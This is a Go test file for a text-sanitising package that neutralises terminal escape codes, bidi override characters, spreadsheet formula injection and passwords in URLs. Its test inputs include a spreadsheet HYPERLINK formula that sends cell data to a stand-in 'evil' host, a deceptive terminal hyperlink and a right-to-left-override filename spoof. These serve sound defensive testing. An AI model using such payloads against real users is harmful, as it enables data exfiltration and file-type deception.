package safetext

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode"
)

func TestText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"mirror.example.org", "mirror.example.org"},
		{"café ✓ 日本", "café ✓ 日本"},
		{"\x1b[31mred\x1b[0m", "␛[31mred␛[0m"},
		{"\x1b]8;;http://evil/\x07click\x1b]8;;\x07", "␛]8;;http://evil/␇click␛]8;;␇"},
		{"bell\a", "bell␇"},
		{"over\rwrite", "over␍write"},
		{"two\nlines\ttab", "two␊lines␉tab"},
		{"del\x7f", "del␡"},
		{"nul\x00", "nul␀"},
		{"c1 \u009b31m csi", "c1 [U+009B]31m csi"},
		{"evil\u202Egnp.exe", "evil[U+202E]gnp.exe"},
		{"\u202A\u202B\u202C\u202D", "[U+202A][U+202B][U+202C][U+202D]"},
		{"\u2066\u2067\u2068\u2069", "[U+2066][U+2067][U+2068][U+2069]"},
		{"\u200E\u200F\u061C", "[U+200E][U+200F][U+061C]"},
		{"line\u2028sep\u2029", "line[U+2028]sep[U+2029]"},
		{"caf\xe9", "caf\uFFFD"},
		{"kept \uFFFD", "kept \uFFFD"},
	}
	for _, tt := range tests {
		if got := Text(tt.in); got != tt.want {
			t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.want)
		}
		// Idempotent, and what it leaves is harmless.
		got := Text(tt.in)
		if again := Text(got); again != got {
			t.Errorf("Text(Text(%q)) = %q, not %q", tt.in, again, got)
		}
		if strings.ContainsFunc(got, Replaced) || strings.ContainsAny(got, "<>&\"'") {
			t.Errorf("Text(%q) = %q still holds what it replaces, or markup", tt.in, got)
		}
	}
}

// TestTextReplacesEveryControlAndBidiCharacter walks every code point.
func TestTextReplacesEveryControlAndBidiCharacter(t *testing.T) {
	for r := rune(0); r <= unicode.MaxRune; r++ {
		if r >= 0xD800 && r <= 0xDFFF {
			continue // surrogates: not runes of a Go string
		}
		dangerous := unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' || r == '\u2029'
		got := Text(string(r))
		if dangerous && got == string(r) {
			t.Errorf("U+%04X left as it is", r)
		}
		if !dangerous && got != string(r) {
			t.Errorf("U+%04X replaced by %q", r, got)
		}
	}
}

func TestLinesKeepsLineBreaksOnly(t *testing.T) {
	if got, want := Lines("a\nb\r\n\x1b[2J"), "a\nb␍\n␛[2J"; got != want {
		t.Errorf("Lines = %q, want %q", got, want)
	}
}

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil/?"&A1,"click")`, `'=HYPERLINK("http://evil/?"&A1,"click")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'␉=1"},
		{"\r=1", "'␍=1"},
		{"\uFF1D1+1", "'\uFF1D1+1"},
		{"mirror=1", "mirror=1"},
		{"plain", "plain"},
		{"-3", "-3"},
		{"0.25", "0.25"},
		{"-1+2", "'-1+2"},
		{"", ""},
		{"a\u202Eb", "a[U+202E]b"},
	}
	for _, tt := range tests {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestURL(t *testing.T) {
	tests := []struct{ in, want string }{
		{"http://user:secretpass@host/pub", "http://host/pub"},
		{"https://user@host:8443/pub/x%20y", "https://host:8443/pub/x%20y"},
		{"http://u:p%40ss@host/pub", "http://host/pub"},
		{"http://u:p@ss@host/pub", "http://host/pub"},
		{"http://host/pub/a@b", "http://host/pub/a@b"},
		{"http://host/pub", "http://host/pub"},
		{"http://u:secret%zz@host/pub", "http://host/pub"}, // does not parse
		{"http://u:sec ret@host/p q", "http://host/p q"},   // does not parse either
		{"rsync://u:secretpass@host/module", "rsync://host/module"},
		{"", ""},
	}
	for _, tt := range tests {
		got := URL(tt.in)
		if got != tt.want {
			t.Errorf("URL(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if strings.Contains(got, "secret") || strings.Contains(got, "p@ss") {
			t.Errorf("URL(%q) = %q keeps the password", tt.in, got)
		}
	}
}

func TestEscapeJSON(t *testing.T) {
	v := map[string]string{"name": "evil\u202Egnp.exe \x1b[31m \u009b \x7f", "plain": "café"}
	b, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	got := EscapeJSON(b)
	if strings.ContainsFunc(string(got), func(r rune) bool { return r != '\n' && Replaced(r) }) {
		t.Errorf("EscapeJSON left a raw character: %q", got)
	}
	var back map[string]string
	if err := json.Unmarshal(got, &back); err != nil || back["name"] != v["name"] || back["plain"] != v["plain"] {
		t.Errorf("EscapeJSON changed the values: %q (%v)", back, err)
	}
	if !strings.Contains(string(got), `\u202e`) {
		t.Errorf("no escape in %s", got)
	}
	clean := []byte(`{"a": "b"}`)
	if got := EscapeJSON(clean); &got[0] != &clean[0] {
		t.Error("a clean document was copied")
	}
}
